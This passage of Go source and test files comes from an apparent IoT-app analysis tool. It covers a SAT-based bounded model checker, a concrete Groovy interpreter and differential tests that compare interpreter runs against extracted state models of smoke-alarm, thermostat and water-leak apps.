		t.Error("nested temporal body should not be handled")
	}
}

// TestAgreesWithExplicitEngine: BMC must agree with the explicit CTL
// checker on AG properties of a real app model (bound = |S| is
// complete for reachability).
func TestAgreesWithExplicitEngine(t *testing.T) {
	app, err := ir.BuildSource("buggy", paperapps.BuggySmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	m, err := statemodel.Build(app)
	if err != nil {
		t.Fatal(err)
	}
	k := kripke.FromModel(m)
	f := ctl.MustParse(`AG ("ev:smokeDetector.smoke.detected" -> "alarm.alarm=siren")`)
	exp := modelcheck.Check(k, f)
	r, ok := CheckAG(k, f, k.N)
	if !ok {
		t.Fatal("CheckAG rejected formula")
	}
	if exp.Holds != !r.Violated {
		t.Errorf("explicit Holds=%t, BMC Violated=%t", exp.Holds, r.Violated)
	}
}

func TestBooleanCombinationBody(t *testing.T) {
	k := kripke.New(3)
	k.Init = []int{0}
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 2, "")
	k.Labels[0]["a"] = true
	k.Labels[0]["b"] = true
	k.Labels[1]["a"] = true
	k.Labels[1]["b"] = true
	k.Labels[2]["b"] = true
	r, ok := CheckAG(k, ctl.MustParse(`AG ("a" | "b")`), k.N)
	if !ok || r.Violated {
		t.Errorf("AG (a|b) holds; r=%+v ok=%t", r, ok)
	}
	r, ok = CheckAG(k, ctl.MustParse(`AG ("a" -> "b")`), k.N)
	if !ok || r.Violated {
		t.Errorf("AG (a->b) holds; r=%+v", r)
	}
	r, ok = CheckAG(k, ctl.MustParse(`AG "a"`), k.N)
	if !ok || !r.Violated {
		t.Errorf("AG a fails at state 2; r=%+v", r)
	}
}
