// Package bmc implements SAT-based bounded model checking of safety
// properties over Kripke structures: the analogue of NuSMV's
// BMC engine that the paper enables alongside BDDs for large models
// (§5, citing Biere et al.'s "Symbolic model checking without BDDs").
//
// The encoding is one-hot: boolean variable x(i,s) means "the system
// is in state s at step i". Exactly-one constraints per step, an
// initial-state clause, transition clauses x(i,s) → ∨_t x(i+1,t), and
// a target clause at the final step. Unrolling k from 0 upward finds a
// shortest counterexample to AG p, exactly like classical BMC.
package bmc

import (
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/sat"
)

// Result of a bounded check.
type Result struct {
	// Violated is true when a counterexample was found within the
	// bound.
	Violated bool
	// Path is the counterexample trace (when Violated).
	Path []int
	// Depth is the unrolling depth at which it was found, or the
	// bound when none was.
	Depth int
}

// CheckAGProp bounded-checks AG p where p is the set of states
// satisfying the property: it searches for a path of length ≤ bound
// from an initial state to a ¬p state.
func CheckAGProp(k *kripke.Structure, good func(s int) bool, bound int) *Result {
	return CheckAGPropBudget(k, good, bound, nil)
}

// CheckAGPropBudget is CheckAGProp under a resource budget: the
// deadline is checked before each unrolling depth and the underlying
// SAT solver charges conflicts against the budget. A nil budget
// disables all checks.
func CheckAGPropBudget(k *kripke.Structure, good func(s int) bool, bound int, b *guard.Budget) *Result {
	for depth := 0; depth <= bound; depth++ {
		b.Check("bmc")
		if path, found := pathToBad(k, good, depth, b); found {
			return &Result{Violated: true, Path: path, Depth: depth}
		}
	}
	return &Result{Depth: bound}
}

// CheckAG bounded-checks a CTL AG formula whose body is a boolean
// combination of propositions (no nested temporal operators) up to
// the given unrolling bound. As with any BMC, absence of a
// counterexample within the bound is not a proof; use the unbounded
// engines for that. A bound of k.N-1 is complete for reachability but
// costly on large models.
func CheckAG(k *kripke.Structure, f ctl.Formula, bound int) (*Result, bool) {
	return CheckAGBudget(k, f, bound, nil)
}

// CheckAGBudget is CheckAG under a resource budget.
func CheckAGBudget(k *kripke.Structure, f ctl.Formula, bound int, b *guard.Budget) (*Result, bool) {
	ag, ok := f.(ctl.AG)
	if !ok {
		return nil, false
	}
	eval, ok := boolEval(ag.X)
	if !ok {
		return nil, false
	}
	return CheckAGPropBudget(k, func(s int) bool { return eval(k, s) }, bound, b), true
}

// boolEval compiles a propositional (non-temporal) formula into a
// per-state evaluator.
func boolEval(f ctl.Formula) (func(*kripke.Structure, int) bool, bool) {
	switch x := f.(type) {
	case ctl.Prop:
		return func(k *kripke.Structure, s int) bool { return k.HasProp(s, x.Name) }, true
	case ctl.TrueF:
		return func(*kripke.Structure, int) bool { return true }, true
	case ctl.FalseF:
		return func(*kripke.Structure, int) bool { return false }, true
	case ctl.Not:
		in, ok := boolEval(x.X)
		if !ok {
			return nil, false
		}
		return func(k *kripke.Structure, s int) bool { return !in(k, s) }, true
	case ctl.And:
		l, ok1 := boolEval(x.L)
		r, ok2 := boolEval(x.R)
		if !ok1 || !ok2 {
			return nil, false
		}
		return func(k *kripke.Structure, s int) bool { return l(k, s) && r(k, s) }, true
	case ctl.Or:
		l, ok1 := boolEval(x.L)
		r, ok2 := boolEval(x.R)
		if !ok1 || !ok2 {
			return nil, false
		}
		return func(k *kripke.Structure, s int) bool { return l(k, s) || r(k, s) }, true
	case ctl.Implies:
		l, ok1 := boolEval(x.L)
		r, ok2 := boolEval(x.R)
		if !ok1 || !ok2 {
			return nil, false
		}
		return func(k *kripke.Structure, s int) bool { return !l(k, s) || r(k, s) }, true
	}
	return nil, false
}

// pathToBad encodes "∃ path s_0..s_depth with s_0 initial, each step a
// transition, s_depth bad" into CNF and solves it.
func pathToBad(k *kripke.Structure, good func(int) bool, depth int, b *guard.Budget) ([]int, bool) {
	n := k.N
	// Variable x(i,s) = i*n + s + 1.
	v := func(i, s int) sat.Lit { return sat.Lit(i*n + s + 1) }
	f := sat.NewFormula((depth + 1) * n)

	for i := 0; i <= depth; i++ {
		// At least one state per step.
		var all []sat.Lit
		for s := 0; s < n; s++ {
			all = append(all, v(i, s))
		}
		f.Add(all...)
		// At most one state per step.
		for s1 := 0; s1 < n; s1++ {
			b.Tick("bmc")
			for s2 := s1 + 1; s2 < n; s2++ {
				f.Add(-v(i, s1), -v(i, s2))
			}
		}
	}
	// Initial states.
	var init []sat.Lit
	for _, s := range k.Init {
		init = append(init, v(0, s))
	}
	f.Add(init...)
	// Transitions.
	for i := 0; i < depth; i++ {
		for s := 0; s < n; s++ {
			lits := []sat.Lit{-v(i, s)}
			for _, t := range k.Succs[s] {
				lits = append(lits, v(i+1, t))
			}
			f.Add(lits...)
		}
	}
	// Bad state at the last step.
	var bad []sat.Lit
	for s := 0; s < n; s++ {
		if !good(s) {
			bad = append(bad, v(depth, s))
		}
	}
	if len(bad) == 0 {
		return nil, false
	}
	f.Add(bad...)

	model, ok := sat.SolveBudget(f, b)
	if !ok {
		return nil, false
	}
	path := make([]int, depth+1)
	for i := 0; i <= depth; i++ {
		for s := 0; s < n; s++ {
			if model.Value(v(i, s)) {
				path[i] = s
				break
			}
		}
	}
	return path, true
}
