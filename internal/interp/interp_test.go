package interp

import (
	"testing"

	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
)

func appOf(t *testing.T, name, src string) *ir.App {
	t.Helper()
	app, err := ir.BuildSource(name, src)
	if err != nil {
		t.Fatal(err)
	}
	return app
}

func subFor(t *testing.T, app *ir.App, handler string) ir.Subscription {
	t.Helper()
	for _, s := range app.Subscriptions {
		if s.Handler == handler {
			return s
		}
	}
	t.Fatalf("subscription for %s not found", handler)
	return ir.Subscription{}
}

func TestFireSmokeDetected(t *testing.T) {
	app := appOf(t, "smoke-alarm", paperapps.SmokeAlarm)
	env := NewEnv(app, DefaultDevices(app), map[string]Value{"thrshld": NumV(20)})
	actions, err := env.Fire(subFor(t, app, "smokeHandler"), "detected")
	if err != nil {
		t.Fatal(err)
	}
	if env.Devices["alarm.alarm"] != "siren" {
		t.Errorf("alarm = %s", env.Devices["alarm.alarm"])
	}
	if env.Devices["valve.valve"] != "open" {
		t.Errorf("valve = %s", env.Devices["valve.valve"])
	}
	if env.Devices["smokeDetector.smoke"] != "detected" {
		t.Errorf("smoke = %s", env.Devices["smokeDetector.smoke"])
	}
	if len(actions) != 2 {
		t.Errorf("actions = %v", actions)
	}
	// Clear turns both off again.
	if _, err := env.Fire(subFor(t, app, "smokeHandler"), "clear"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["alarm.alarm"] != "off" || env.Devices["valve.valve"] != "closed" {
		t.Errorf("after clear: alarm=%s valve=%s", env.Devices["alarm.alarm"], env.Devices["valve.valve"])
	}
	// "tested" takes no device actions.
	acts, _ := env.Fire(subFor(t, app, "smokeHandler"), "tested")
	if len(acts) != 0 {
		t.Errorf("tested actions = %v", acts)
	}
}

func TestFireBatteryThreshold(t *testing.T) {
	app := appOf(t, "smoke-alarm", paperapps.SmokeAlarm)
	env := NewEnv(app, DefaultDevices(app), map[string]Value{"thrshld": NumV(20)})
	// Above the threshold: no action.
	acts, err := env.Fire(subFor(t, app, "batteryHandler"), "80")
	if err != nil {
		t.Fatal(err)
	}
	if len(acts) != 0 {
		t.Errorf("high battery actions = %v", acts)
	}
	// Below the threshold: warning switch on (reads the device value
	// through the findBatteryLevel() helper).
	acts, err = env.Fire(subFor(t, app, "batteryHandler"), "10")
	if err != nil {
		t.Fatal(err)
	}
	if env.Devices["switch.switch"] != "on" || len(acts) != 1 {
		t.Errorf("low battery: switch=%s actions=%v", env.Devices["switch.switch"], acts)
	}
}

func TestFireThermostatPower(t *testing.T) {
	app := appOf(t, "thermostat", paperapps.ThermostatEnergyControl)
	env := NewEnv(app, DefaultDevices(app), map[string]Value{"price_kwh": NumV(12)})
	env.Devices["switch.switch"] = "on"
	if _, err := env.Fire(subFor(t, app, "powerHandler"), "80"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["switch.switch"] != "off" {
		t.Errorf("power 80 should switch off, got %s", env.Devices["switch.switch"])
	}
	if _, err := env.Fire(subFor(t, app, "powerHandler"), "2"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["switch.switch"] != "on" {
		t.Errorf("power 2 should switch on, got %s", env.Devices["switch.switch"])
	}
	if _, err := env.Fire(subFor(t, app, "powerHandler"), "25"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["switch.switch"] != "on" {
		t.Errorf("power 25 should leave the switch on, got %s", env.Devices["switch.switch"])
	}
}

func TestFireModeChange(t *testing.T) {
	app := appOf(t, "thermostat", paperapps.ThermostatEnergyControl)
	env := NewEnv(app, DefaultDevices(app), nil)
	if _, err := env.Fire(subFor(t, app, "modeChangeHandler"), "away"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["lock.lock"] != "locked" {
		t.Errorf("lock = %s", env.Devices["lock.lock"])
	}
	if env.Devices["thermostat.heatingSetpoint"] != "68" {
		t.Errorf("setpoint = %s", env.Devices["thermostat.heatingSetpoint"])
	}
	if env.Devices["location.mode"] != "away" {
		t.Errorf("mode = %s", env.Devices["location.mode"])
	}
}

func TestStateVariablePersistence(t *testing.T) {
	app := appOf(t, "counter", `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) {
    state.counter = state.counter + 1
    if (state.counter > 2) {
        sw.off()
    }
}
`)
	env := NewEnv(app, DefaultDevices(app), nil)
	sub := subFor(t, app, "h")
	for i := 0; i < 2; i++ {
		acts, err := env.Fire(sub, "on")
		if err != nil {
			t.Fatal(err)
		}
		if len(acts) != 0 {
			t.Fatalf("fire %d: early actions %v", i, acts)
		}
	}
	acts, err := env.Fire(sub, "on")
	if err != nil {
		t.Fatal(err)
	}
	if len(acts) != 1 || env.Devices["switch.switch"] != "off" {
		t.Errorf("third fire: actions=%v switch=%s", acts, env.Devices["switch.switch"])
	}
	if env.State["counter"].Num != 3 {
		t.Errorf("counter = %v", env.State["counter"])
	}
}

func TestConcreteReflection(t *testing.T) {
	app := appOf(t, "reflect", `
preferences { section("s") { input "the_alarm", "capability.alarm" } }
def installed() { subscribe(app, h) }
def h(evt) {
    def name = "sound"
    "$name"()
}
def sound() { the_alarm.siren() }
def silence() { the_alarm.off() }
`)
	env := NewEnv(app, DefaultDevices(app), nil)
	if _, err := env.Fire(subFor(t, app, "h"), "touched"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["alarm.alarm"] != "siren" {
		t.Errorf("alarm = %s (reflection must resolve concretely)", env.Devices["alarm.alarm"])
	}
}

func TestRecursionLimitSurfacesError(t *testing.T) {
	app := appOf(t, "rec", `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) { h2() }
def h2() { h2() }
`)
	env := NewEnv(app, DefaultDevices(app), nil)
	if _, err := env.Fire(subFor(t, app, "h"), "on"); err == nil {
		t.Error("expected recursion error")
	}
}

// TestDifferentialCatchesModelGaps: sanity-check that the differential
// harness is not vacuous — a deliberately wrong "model transition
// lookup" (searching for an impossible event) must fail to find a
// match for a step that changes state.
func TestDifferentialCatchesModelGaps(t *testing.T) {
	app := appOf(t, "water-leak", paperapps.WaterLeakDetector)
	env := NewEnv(app, DefaultDevices(app), nil)
	env.Devices["valve.valve"] = "open"
	acts, err := env.Fire(subFor(t, app, "waterWetHandler"), "wet")
	if err != nil {
		t.Fatal(err)
	}
	if len(acts) != 1 || env.Devices["valve.valve"] != "closed" {
		t.Fatalf("acts=%v valve=%s", acts, env.Devices["valve.valve"])
	}
}

func TestEvalOperatorsAndLoops(t *testing.T) {
	app := appOf(t, "ops", `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "base", "number"
    }
}
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def total = 0
    def i = 0
    while (i < 4) {
        total += i * 2
        i++
    }
    // total = 0+2+4+6 = 12; negate and add modulo
    def adjusted = -total + (17 % 5) + base
    ther.setHeatingSetpoint(adjusted)
}
`)
	env := NewEnv(app, DefaultDevices(app), map[string]Value{"base": NumV(100)})
	if _, err := env.Fire(subFor(t, app, "h"), "away"); err != nil {
		t.Fatal(err)
	}
	// -12 + 2 + 100 = 90.
	if env.Devices["thermostat.heatingSetpoint"] != "90" {
		t.Errorf("setpoint = %s", env.Devices["thermostat.heatingSetpoint"])
	}
}

func TestEvalSwitchDefaultAndElvis(t *testing.T) {
	app := appOf(t, "sw", `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch", h) }
def h(evt) {
    def msg = null
    def label = msg ?: "fallback"
    switch (label) {
        case "other":
            sw.on()
            break
        default:
            sw.off()
    }
}
`)
	env := NewEnv(app, DefaultDevices(app), nil)
	if _, err := env.Fire(subFor(t, app, "h"), "on"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["switch.switch"] != "off" {
		t.Errorf("switch = %s (default case should run)", env.Devices["switch.switch"])
	}
}

func TestEvalGStringConcat(t *testing.T) {
	app := appOf(t, "gs", `
preferences { section("s") { input "the_alarm", "capability.alarm" } }
def installed() { subscribe(app, h) }
def h(evt) {
    def verb = "sir"
    "${verb}en"()
}
def siren() { the_alarm.siren() }
`)
	env := NewEnv(app, DefaultDevices(app), nil)
	if _, err := env.Fire(subFor(t, app, "h"), "touched"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["alarm.alarm"] != "siren" {
		t.Errorf("alarm = %s (GString concat reflection)", env.Devices["alarm.alarm"])
	}
}

func TestEvalTernaryAndBooleans(t *testing.T) {
	app := appOf(t, "tern", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def cold = evt.value == "away" || evt.value == "night"
    def target = cold && true ? 55 : 72
    ther.setHeatingSetpoint(target)
}
`)
	env := NewEnv(app, DefaultDevices(app), nil)
	if _, err := env.Fire(subFor(t, app, "h"), "away"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["thermostat.heatingSetpoint"] != "55" {
		t.Errorf("away setpoint = %s", env.Devices["thermostat.heatingSetpoint"])
	}
	if _, err := env.Fire(subFor(t, app, "h"), "home"); err != nil {
		t.Fatal(err)
	}
	if env.Devices["thermostat.heatingSetpoint"] != "72" {
		t.Errorf("home setpoint = %s", env.Devices["thermostat.heatingSetpoint"])
	}
}
