package interp

import (
	"fmt"
	"math/rand"
	"strconv"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/market"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/pathcond"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

// evalCond decides a numeric abstract value's defining condition under
// a concrete value and install configuration (symbolic right-hand
// sides are user-input handles resolved from config).
func evalCond(c pathcond.Cond, key string, val float64, config map[string]Value) bool {
	for _, a := range c.Atoms {
		if a.Var != key {
			continue
		}
		var rhs float64
		switch {
		case a.IsSym():
			v, ok := config[a.RHSVar]
			if !ok {
				return false
			}
			rhs = v.Num
		case a.IsNum:
			rhs = a.Num
		default:
			continue
		}
		ok := false
		switch a.Op {
		case pathcond.EQ:
			ok = val == rhs
		case pathcond.NE:
			ok = val != rhs
		case pathcond.LT:
			ok = val < rhs
		case pathcond.LE:
			ok = val <= rhs
		case pathcond.GT:
			ok = val > rhs
		case pathcond.GE:
			ok = val >= rhs
		}
		if !ok {
			return false
		}
	}
	return true
}

// abstractValue maps a concrete attribute value to the model
// variable's domain index.
func abstractValue(v *statemodel.Var, raw string, config map[string]Value) (int, error) {
	if !v.Numeric {
		if i, ok := v.ValueIndex(raw); ok {
			return i, nil
		}
		return -1, fmt.Errorf("value %q not in %s's domain %v", raw, v.Key, v.Values)
	}
	num, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		return -1, fmt.Errorf("non-numeric %q for %s", raw, v.Key)
	}
	for i, c := range v.ValueConds {
		if evalCond(c, v.Key, num, config) {
			return i, nil
		}
	}
	return -1, fmt.Errorf("no abstract value for %s=%g", v.Key, num)
}

// mapState maps the interpreter's concrete device store to a model
// state ID.
func mapState(m *statemodel.Model, env *Env, config map[string]Value) (int, error) {
	idx := make([]int, len(m.Vars))
	for vi, v := range m.Vars {
		raw, ok := env.Devices[v.Key]
		if !ok {
			return -1, fmt.Errorf("device store missing %s", v.Key)
		}
		i, err := abstractValue(v, raw, config)
		if err != nil {
			return -1, err
		}
		idx[vi] = i
	}
	// Locate the state by label (states cover the full product).
	req := map[string]string{}
	for vi, v := range m.Vars {
		req[v.Key] = v.Values[idx[vi]]
	}
	states := m.FindStates(req)
	if len(states) != 1 {
		return -1, fmt.Errorf("state lookup found %d states", len(states))
	}
	return states[0], nil
}

// concreteEvent is one fireable event with its concrete value.
type concreteEvent struct {
	sub ir.Subscription
	val string
}

// candidateEvents enumerates concrete events for an app.
func candidateEvents(app *ir.App, m *statemodel.Model) []concreteEvent {
	var out []concreteEvent
	for _, ep := range app.EntryPoints {
		sub := ep.Sub
		switch sub.Kind {
		case ir.TimerEvent:
			out = append(out, concreteEvent{sub: sub, val: sub.Value})
		case ir.AppTouchEvent:
			out = append(out, concreteEvent{sub: sub, val: "touched"})
		case ir.ModeEvent:
			v, _, ok := m.VarByKey("location.mode")
			if !ok {
				continue
			}
			for _, val := range v.Values {
				if sub.Value != "" && val != sub.Value {
					continue
				}
				out = append(out, concreteEvent{sub: sub, val: val})
			}
		case ir.DeviceEvent:
			p, ok := app.PermissionByHandle(sub.Handle)
			if !ok || p.Cap == nil {
				continue
			}
			attr, found := p.Cap.Attribute(sub.Attr)
			if !found {
				attr = p.Cap.PrimaryAttribute()
			}
			if attr == nil {
				continue
			}
			if len(attr.Values) > 0 {
				for _, val := range attr.Values {
					if sub.Value != "" && val != sub.Value {
						continue
					}
					out = append(out, concreteEvent{sub: sub, val: val})
				}
			} else {
				// Numeric sensor: sample around typical thresholds.
				for _, n := range []string{"1", "4", "30", "49", "51", "75", "120", "951"} {
					out = append(out, concreteEvent{sub: sub, val: n})
				}
			}
		}
	}
	return out
}

// runDifferential drives random event sequences through the concrete
// interpreter and asserts every concrete step is simulated by a model
// transition (soundness of the extraction).
func runDifferential(t *testing.T, label string, app *ir.App, steps int, seed int64) {
	t.Helper()
	m, err := statemodel.Build(app)
	if err != nil {
		t.Fatalf("%s: %v", label, err)
	}
	config := map[string]Value{}
	for _, p := range app.UserInputs() {
		switch p.RawType {
		case "number", "decimal":
			config[p.Handle] = NumV(50)
		default:
			config[p.Handle] = StrV("config-" + p.Handle)
		}
	}
	devices := DefaultDevices(app)
	// Every model variable needs a concrete seed value.
	for _, v := range m.Vars {
		if _, ok := devices[v.Key]; ok {
			continue
		}
		if v.Numeric {
			devices[v.Key] = "0"
		} else {
			devices[v.Key] = v.Values[0]
		}
	}
	env := NewEnv(app, devices, config)

	events := candidateEvents(app, m)
	if len(events) == 0 {
		return
	}
	rng := rand.New(rand.NewSource(seed))
	for step := 0; step < steps; step++ {
		ev := events[rng.Intn(len(events))]
		pre, err := mapState(m, env, config)
		if err != nil {
			t.Fatalf("%s step %d: pre-state: %v", label, step, err)
		}
		if _, err := env.Fire(ev.sub, ev.val); err != nil {
			t.Fatalf("%s step %d: fire: %v", label, step, err)
		}
		post, err := mapState(m, env, config)
		if err != nil {
			t.Fatalf("%s step %d: post-state: %v", label, step, err)
		}

		// Determine the model event label.
		var wantVar, wantVal string
		switch ev.sub.Kind {
		case ir.TimerEvent:
			wantVar, wantVal = "timer.time", ev.sub.Value
		case ir.AppTouchEvent:
			wantVar, wantVal = "app.touch", app.Name
		case ir.ModeEvent:
			wantVar, wantVal = "location.mode", ev.val
		case ir.DeviceEvent:
			p, _ := app.PermissionByHandle(ev.sub.Handle)
			attrName := ev.sub.Attr
			if _, found := p.Cap.Attribute(attrName); !found {
				attrName = p.Cap.PrimaryAttribute().Name
			}
			wantVar = p.Cap.Name + "." + attrName
			v, _, _ := m.VarByKey(wantVar)
			i, err := abstractValue(v, ev.val, config)
			if err != nil {
				t.Fatalf("%s step %d: event value: %v", label, step, err)
			}
			wantVal = v.Values[i]
		}

		found := false
		for _, tr := range m.Transitions {
			if tr.From == pre && tr.To == post &&
				tr.Event.VarKey == wantVar && tr.Event.Value == wantVal {
				found = true
				break
			}
		}
		if !found {
			t.Fatalf("%s step %d: concrete step not simulated:\n  pre  %s\n  event %s=%s (concrete %s via %s)\n  post %s",
				label, step, m.StateLabel(pre), wantVar, wantVal, ev.val, ev.sub.Handler, m.StateLabel(post))
		}
	}
}

func TestDifferentialPaperApps(t *testing.T) {
	for _, s := range [][2]string{
		{"smoke-alarm", paperapps.SmokeAlarm},
		{"buggy-smoke-alarm", paperapps.BuggySmokeAlarm},
		{"water-leak", paperapps.WaterLeakDetector},
		{"thermostat", paperapps.ThermostatEnergyControl},
	} {
		app, err := ir.BuildSource(s[0], s[1])
		if err != nil {
			t.Fatal(err)
		}
		runDifferential(t, s[0], app, 120, 11)
	}
}

func TestDifferentialMarketCorpus(t *testing.T) {
	for i, spec := range market.All() {
		app, err := spec.Parse()
		if err != nil {
			t.Fatalf("%s: %v", spec.ID, err)
		}
		runDifferential(t, spec.ID, app, 60, int64(i)+100)
	}
}
