package interp

import (
	"strconv"

	"github.com/soteria-analysis/soteria/internal/capability"
	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
)

// eval evaluates an expression concretely.
func (e *Env) eval(x groovy.Expr, frame map[string]Value) Value {
	switch ex := x.(type) {
	case *groovy.NumberLit:
		return NumV(ex.Value)
	case *groovy.StringLit:
		return StrV(ex.Value)
	case *groovy.BoolLit:
		return BoolV(ex.Value)
	case *groovy.NullLit:
		return Value{}
	case *groovy.GStringLit:
		return e.evalGString(ex, frame)
	case *groovy.Ident:
		return e.evalIdent(ex, frame)
	case *groovy.PropExpr:
		return e.evalProp(ex, frame)
	case *groovy.IndexExpr, *groovy.ListLit, *groovy.MapLit, *groovy.ClosureLit, *groovy.NewExpr:
		return Value{}
	case *groovy.UnaryExpr:
		v := e.eval(ex.X, frame)
		switch ex.Op {
		case groovy.MINUS:
			return NumV(-v.Num)
		case groovy.NOT:
			return BoolV(!v.truthy())
		}
		return Value{}
	case *groovy.BinaryExpr:
		return e.evalBinary(ex, frame)
	case *groovy.TernaryExpr:
		if e.eval(ex.Cond, frame).truthy() {
			return e.eval(ex.Then, frame)
		}
		return e.eval(ex.Else, frame)
	case *groovy.ElvisExpr:
		v := e.eval(ex.Value, frame)
		if v.truthy() {
			return v
		}
		return e.eval(ex.Default, frame)
	case *groovy.CallExpr:
		return e.evalCall(ex, frame)
	}
	return Value{}
}

func (e *Env) evalIdent(id *groovy.Ident, frame map[string]Value) Value {
	if v, ok := frame[id.Name]; ok {
		return v
	}
	if v, ok := e.Config[id.Name]; ok {
		return v
	}
	return Value{}
}

func (e *Env) evalProp(pe *groovy.PropExpr, frame map[string]Value) Value {
	// evt.value and friends.
	if id, ok := pe.Recv.(*groovy.Ident); ok && id.Name == e.evtParam && e.evtParam != "" {
		switch pe.Name {
		case "value", "stringValue":
			return e.evtString()
		case "doubleValue", "floatValue", "integerValue", "numberValue", "numericValue":
			if n, err := strconv.ParseFloat(e.evtValue, 64); err == nil {
				return NumV(n)
			}
			return Value{}
		case "displayName", "name", "date":
			return StrV(e.evtValue)
		}
	}
	if f, ok := ir.StateFieldRef(pe); ok {
		return e.State[f]
	}
	if h, attr, ok := ir.DeviceRead(e.App, pe); ok {
		return e.deviceValue(h, attr)
	}
	// Conversion wrappers.
	switch pe.Name {
	case "integerValue", "floatValue", "doubleValue", "value":
		return e.eval(pe.Recv, frame)
	}
	if id, ok := pe.Recv.(*groovy.Ident); ok && id.Name == "location" && pe.Name == "mode" {
		return StrV(e.Devices["location.mode"])
	}
	return Value{}
}

// evtString returns the event value, numeric events as numbers.
func (e *Env) evtString() Value {
	if n, err := strconv.ParseFloat(e.evtValue, 64); err == nil {
		return NumV(n)
	}
	return StrV(e.evtValue)
}

// deviceValue reads a device attribute from the concrete store.
func (e *Env) deviceValue(handle, attr string) Value {
	key, ok := e.capKeyFor(handle, attr)
	if !ok {
		return Value{}
	}
	raw, ok := e.Devices[key]
	if !ok {
		return Value{}
	}
	if n, err := strconv.ParseFloat(raw, 64); err == nil {
		return NumV(n)
	}
	return StrV(raw)
}

func (e *Env) evalGString(g *groovy.GStringLit, frame map[string]Value) Value {
	if s, static := g.StaticText(); static {
		return StrV(s)
	}
	out := ""
	for _, part := range g.Parts {
		if part.IsExpr {
			out += e.eval(part.Expr, frame).String()
		} else {
			out += part.Text
		}
	}
	return StrV(out)
}

func (e *Env) evalBinary(b *groovy.BinaryExpr, frame map[string]Value) Value {
	// Short-circuit booleans first.
	switch b.Op {
	case groovy.ANDAND:
		if !e.eval(b.L, frame).truthy() {
			return BoolV(false)
		}
		return BoolV(e.eval(b.R, frame).truthy())
	case groovy.OROR:
		if e.eval(b.L, frame).truthy() {
			return BoolV(true)
		}
		return BoolV(e.eval(b.R, frame).truthy())
	}
	l := e.eval(b.L, frame)
	r := e.eval(b.R, frame)
	switch b.Op {
	case groovy.PLUS:
		if l.Kind == Str || r.Kind == Str {
			return StrV(l.String() + r.String())
		}
		return NumV(l.Num + r.Num)
	case groovy.MINUS:
		return NumV(l.Num - r.Num)
	case groovy.STAR:
		return NumV(l.Num * r.Num)
	case groovy.SLASH:
		if r.Num == 0 {
			return Value{}
		}
		return NumV(l.Num / r.Num)
	case groovy.PERCENT:
		if r.Num == 0 {
			return Value{}
		}
		return NumV(float64(int64(l.Num) % int64(r.Num)))
	case groovy.EQ:
		return BoolV(equal(l, r))
	case groovy.NEQ:
		return BoolV(!equal(l, r))
	case groovy.LT:
		return BoolV(l.Num < r.Num)
	case groovy.LEQ:
		return BoolV(l.Num <= r.Num)
	case groovy.GT:
		return BoolV(l.Num > r.Num)
	case groovy.GEQ:
		return BoolV(l.Num >= r.Num)
	}
	return Value{}
}

func (e *Env) evalCall(c *groovy.CallExpr, frame map[string]Value) Value {
	// Reflection: resolve the callee string concretely.
	if c.Dynamic != nil {
		name := e.eval(c.Dynamic, frame)
		if name.Kind == Str && e.App.File.MethodByName(name.Str) != nil {
			return e.callMethod(name.Str, c.Args, frame)
		}
		return Value{}
	}
	// Device actions.
	if perm, cmdName, call, ok := ir.DeviceAction(e.App, c); ok {
		e.applyAction(perm, cmdName, call, frame)
		return Value{}
	}
	// Device reads.
	if h, attr, ok := ir.DeviceRead(e.App, c); ok {
		return e.deviceValue(h, attr)
	}
	// App methods.
	if c.Recv == nil && e.App.File.MethodByName(c.Name) != nil {
		return e.callMethod(c.Name, c.Args, frame)
	}
	// Conversion wrappers on receivers.
	if c.Recv != nil {
		switch c.Name {
		case "toInteger", "toFloat", "toDouble", "toString":
			return e.eval(c.Recv, frame)
		}
	}
	// Platform calls (logging, notifications, scheduling) are no-ops.
	// Arguments are still evaluated for their effects.
	for _, a := range c.Args {
		e.eval(a, frame)
	}
	return Value{}
}

func (e *Env) callMethod(name string, args []groovy.Expr, frame map[string]Value) Value {
	if e.depth >= maxDepth {
		e.fail("recursion limit in %s", name)
		return Value{}
	}
	m := e.App.File.MethodByName(name)
	callee := map[string]Value{}
	for i, p := range m.Params {
		if i < len(args) {
			callee[p] = e.eval(args[i], frame)
		} else {
			callee[p] = Value{}
		}
	}
	e.depth++
	v, _ := e.execBlock(m.Body, callee)
	e.depth--
	return v
}

// applyAction applies a device command to the concrete store and logs
// it.
func (e *Env) applyAction(perm *ir.Permission, cmdName string, call *groovy.CallExpr, frame map[string]Value) {
	record := func(capName, attr, value string) {
		e.Devices[capName+"."+attr] = value
		e.Trace = append(e.Trace, Action{Cap: capName, Attr: attr, Value: value})
	}
	if perm == nil {
		// setLocationMode(mode).
		if len(call.Args) > 0 {
			v := e.eval(call.Args[0], frame)
			record("location", "mode", v.String())
		}
		return
	}
	cmd, _ := perm.Cap.Command(cmdName)
	for _, eff := range cmd.Effects {
